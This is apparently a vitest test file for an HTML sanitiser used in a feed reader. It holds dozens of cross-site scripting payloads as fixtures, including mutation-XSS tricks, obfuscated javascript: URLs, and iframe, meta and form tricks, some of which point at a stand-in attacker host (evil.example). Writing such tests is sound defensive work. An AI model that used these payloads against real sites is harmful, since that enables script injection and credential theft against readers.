import { load } from 'cheerio';
import { describe, expect, test } from 'vitest';
import { sanitise } from '../../web/sanitise.ts';

const BASE = 'https://journal.example/2026/article';
const clean = (html: string, base: string | undefined = BASE): string =>
  sanitise(html, base, (alt) => `[image : ${alt}]`);

const TAGS = new Set(
  'p br hr h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote pre code em strong b i u s del ins sub sup small q cite abbr mark table caption thead tbody tr th td figure figcaption a'.split(
    ' ',
  ),
);
const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'rel', 'target'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
};

/** Reads the result as a browser does and names everything in it that is not on the list. */
function activeIn(html: string): string[] {
  const $ = load(`<div id="story">${html}</div>`);
  const outside = $('head').children().length + $('body').children().length > 1 ? ['something left its place'] : [];
  const inside = $('#story *')
    .toArray()
    .flatMap((node) => {
      const name = node.tagName.toLowerCase();
      const found = TAGS.has(name) || name === 'tbody' ? [] : [`<${name}>`];
      for (const [attribute, value] of Object.entries(node.attribs)) {
        if (!ATTRIBUTES[name]?.includes(attribute)) found.push(`${name} ${attribute}`);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`href ${value}`);
        if (/span$/.test(attribute) && !/^\d{1,4}$/.test(value)) found.push(`${attribute} ${value}`);
      }
      return found;
    });
  return [...outside, ...inside];
}

describe('nothing from a feed runs in a reader’s browser', () => {
  test.each([
    ['<script>alert(1)</script>'],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['<script>alert(1)'],
    [
      '<p onclick="alert(1)" onmouseover=alert(1) style="background:url(javascript:alert(1))" id=x class=y data-x=1>a</p>',
    ],
    ['<img src=x onerror=alert(1)>'],
    ['<img src="x" alt="&quot;><script>alert(1)</script>">'],
    ['<img src="javascript:alert(1)" alt="a">'],
    ['<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'],
    ['<svg><style><img src=x onerror=alert(1)></style></svg>'],
    [
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
    ],
    ['<math href="javascript:alert(1)">x</math>'],
    ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
    ['<style>@import "//evil.example";</style><link rel=stylesheet href=//evil.example>'],
    ['<a href="javascript:alert(1)">x</a>'],
    ['<a href=" jAvA\tscript:alert(1)">x</a>'],
    ['<a href="&#106;avascript&colon;alert(1)">x</a>'],
    ['<a href="java\u0000script:alert(1)">x</a>'],
    ['<a href="\u0001javascript:alert(1)">x</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['<a href="vbscript:msgbox(1)">x</a>'],
    ['<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">y</a>'],
    ['<meta http-equiv=refresh content="0;url=//evil.example">'],
    ['<base href="//evil.example/"><a href="x">x</a>'],
    [
      '<form action=//evil.example><input name=password><button>OK</button><select><option>a</select><textarea>b</textarea></form>',
    ],
    ['<iframe src=//evil.example srcdoc="<script>alert(1)</script>"></iframe>'],
    ['<object data=x><embed src=x></object><applet code=x></applet>'],
    ['<video src=x onerror=alert(1) autoplay></video><audio controls></audio><source src=x>'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['<template><script>alert(1)</script></template>'],
    ['<title><img src=x onerror=alert(1)></title>'],
    ['<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>'],
    ['<listing>&lt;img src=x onerror=alert(1)&gt;</listing>'],
    ['<!--><script>alert(1)</script>-->'],
    ['<!--[if IE]><script>alert(1)</script><![endif]-->'],
    ['<![CDATA[<script>alert(1)</script>]]>'],
    ['<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;'],
    ['<p><b><i></p></b></i><table><p>x</table></div></div><script>alert(1)</script>'],
    ['</div></body></html><script>alert(1)</script>'],
    ['<a href="https://x.example/" target="_top" rel="opener" download ping="//evil.example">x</a>'],
    ['<td colspan="9999999999" rowspan="javascript:alert(1)">x</td>'],
    ['<p =onclick=alert(1)><p/onclick=alert(1)>x<p\nonclick=alert(1)>'],
    ['<a href="https://x.example/" "onclick=alert(1)">x</a>'],
    ['<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>'],
    ['<custom-element onfocus=alert(1) autofocus tabindex=1>x</custom-element>'],
    ['&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['\u003cscript\u003ealert(1)\u003c/script\u003e'],
    ['<p>\ud800</p><\u0000script>alert(1)</script>'],
  ])('%s', (html) => {
    const result = clean(html);
    expect(activeIn(result), result).toEqual([]);
    expect(activeIn(clean(result)), 'cleaned twice').toEqual([]);
    expect(activeIn(clean(html, undefined)), 'without a base').toEqual([]);
  });

  test('50,000 elements deep is cut, and quickly', () => {
    for (const tag of ['b', 'blockquote', 'table', 'svg', 'a', 'unknown']) {
      const start = performance.now();
      const result = clean(`${`<${tag}>`.repeat(50_000)}<script>alert(1)</script>texte`);
      expect(performance.now() - start, tag).toBeLessThan(5000);
      expect(activeIn(result), tag).toEqual([]);
    }
    expect(clean('<b>'.repeat(1000)).match(/<b>/g)?.length).toBeLessThanOrEqual(60);
  });

  test('random pieces of markup leave nothing active', () => {
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      ' ',
      '<script>',
      '</script>',
      '<svg>',
      '<math>',
      '<style>',
      '</style>',
      '<!--',
      '-->',
      '<a href=',
      'javascript:alert(1)',
      ' onerror=alert(1)',
      '<img src=x',
      '<table>',
      '<p>',
      '</p>',
      '&lt;',
      '\u0000',
      'mot',
      '<title>',
      '<noscript>',
      '</noscript>',
      '<mglyph>',
      '<mtext>',
    ];
    let state = 7;
    for (let round = 0; round < 1500; round += 1) {
      let html = '';
      for (let at = 0; at < 14; at += 1) {
        state = (Math.imul(state, 1103515245) + 12345) >>> 0;
        html += pieces[(state >>> 8) % pieces.length];
      }
      const result = clean(html);
      expect(activeIn(result), `${html} → ${result}`).toEqual([]);
    }
  });
});

describe('what an article says is kept', () => {
  test('text, emphasis, lists, quotes, code, tables', () => {
    const html =
      '<p>Un <strong>mot</strong> &amp; <em>deux</em></p><ul><li>a</li></ul><blockquote>q</blockquote><pre><code>x &lt; y</code></pre>';
    expect(clean(html)).toBe(html);
    expect(clean('<table><tr><th colspan="2">a</th></tr></table>')).toContain('<th colspan="2">a</th>');
  });

  test('unknown elements go, their text stays', () => {
    expect(clean('<div><span>mot</span><font color=red> rouge</font></div>')).toBe('mot rouge');
  });

  test('a link is absolute, opens elsewhere and tells the other site nothing', () => {
    const $ = load(clean('<a href="../a?b=1&amp;c=2">x</a>'));
    expect($('a').attr()).toEqual({
      href: 'https://journal.example/a?b=1&c=2',
      rel: 'noopener noreferrer nofollow',
      target: '_blank',
    });
    expect(clean('<a href="mailto:a@b.example">x</a>')).toContain('href="mailto:a@b.example"');
    expect(clean('<a href="/a">x</a>', '')).not.toContain('href');
  });

  test('an image becomes a link to it: opening a story asks nothing of anybody', () => {
    const result = clean('<p><img src="/photo.jpg" alt="Le port"></p>');
    expect(result).not.toContain('<img');
    const $ = load(result);
    expect($('a').attr('href')).toBe('https://journal.example/photo.jpg');
    expect($('a').text()).toBe('[image : Le port]');
  });

  test('an article has one h1, the title of the story: those of the text step down', () => {
    expect(clean('<h1>Titre</h1>')).toBe('<h2>Titre</h2>');
  });
});
